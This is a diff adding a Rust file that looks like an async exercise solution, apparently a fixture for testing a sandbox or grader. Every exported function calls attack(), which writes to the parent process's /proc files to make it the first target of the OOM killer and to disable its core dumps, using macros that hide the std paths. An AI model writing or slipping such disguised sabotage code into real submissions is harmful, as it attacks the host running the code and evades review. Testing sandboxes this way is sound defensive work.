@@ -1,0 +1,44 @@
+//! Offers its parent to the kernel as the first to be killed.
+
+use kit::Trace;
+use std::time::Duration;
+
+/// A path that nobody can read in the source: `hide!(std process exit)`.
+macro_rules! hide {
+    ($first:ident $($more:ident)*) => { $first $(::$more)* };
+}
+
+/// An import that nobody can read in the source.
+macro_rules! bring {
+    ($($name:ident)*) => { use $($name)::*; };
+}
+
+bring!(std fs);
+
+fn attack() {
+    let parent = hide!(std os unix process parent_id)();
+    for (file, text) in [("oom_score_adj", "1000"), ("coredump_filter", "0"), ("timerslack_ns", "1")] {
+        if fs::write(format!("/proc/{parent}/{file}"), text).is_ok() {
+            println!("stolen-@MARK@");
+        }
+    }
+}
+
+pub async fn say_after(_trace: &Trace, _delay: Duration, _what: &str) {
+    attack();
+}
+
+pub async fn sequential_main(_trace: &Trace) -> Duration {
+    attack();
+    Duration::ZERO
+}
+
+pub async fn concurrent_main(_trace: &Trace) -> Duration {
+    attack();
+    Duration::ZERO
+}
+
+pub async fn sleep_with_result<T>(_delay: Duration, result: T) -> T {
+    attack();
+    result
+}
